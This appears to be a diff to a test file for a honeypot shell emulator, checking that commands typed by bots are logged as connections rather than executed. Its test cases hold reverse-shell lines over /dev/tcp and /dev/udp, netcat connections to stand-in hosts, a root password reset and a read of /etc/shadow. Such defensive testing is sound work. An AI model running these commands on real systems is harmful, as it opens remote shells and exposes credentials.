@@ -30,10 +30,16 @@ describe('what bots type', () => {
     ['nc -w 1 198.51.100.7 4444', 'nc tcp://198.51.100.7:4444'],
     ['nc -u -z 198.51.100.7 53', 'nc udp://198.51.100.7:53'],
     ['bash -c "echo > /dev/tcp/198.51.100.7/443"', 'bash tcp://198.51.100.7:443'],
+    ['bash -i >& /dev/tcp/198.51.100.9/4445 0>&1', 'bash tcp://198.51.100.9:4445'],
+    ['sh -i >& /dev/udp/198.51.100.9/53 0>&1', 'bash udp://198.51.100.9:53'],
+    ['id &> /dev/tcp/198.51.100.9/80', 'bash tcp://198.51.100.9:80'],
+    ['id &>> /dev/tcp/198.51.100.9/80', 'bash tcp://198.51.100.9:80'],
+    ['id >& /dev/tcp/198.51.100.9/80', 'bash tcp://198.51.100.9:80'],
     ['ssh -p 2222 root@198.51.100.7', 'ssh ssh://root@198.51.100.7:2222'],
   ])('records %s as a connection, not as a download', async (line, connect) => {
     const ran = await runCommand(line)
     expect([ran.connects, ran.downloads]).toEqual([[connect], []])
+    expect(ran.err).not.toContain('No such file')
   })
 
   it('records downloads and never makes them', async () => {
@@ -95,7 +101,7 @@ describe('what bots type', () => {
     const machine = testMachine()
     const ran = await runCommand('echo "root:zXc9pQ2w"|chpasswd|bash; grep ^root /etc/shadow | cut -c1-9', { machine })
     expect(ran).toMatchObject({ out: 'root:$y$j\n', err: '', status: 0 })
-    expect(machine.passwords.get('root')).toBe('zXc9pQ2w')
+    expect(machine.accounts.opens('root', Buffer.from('zXc9pQ2w'))).toBe(true)
   })
   it('keeps a crontab', async () => {
     const machine = testMachine()
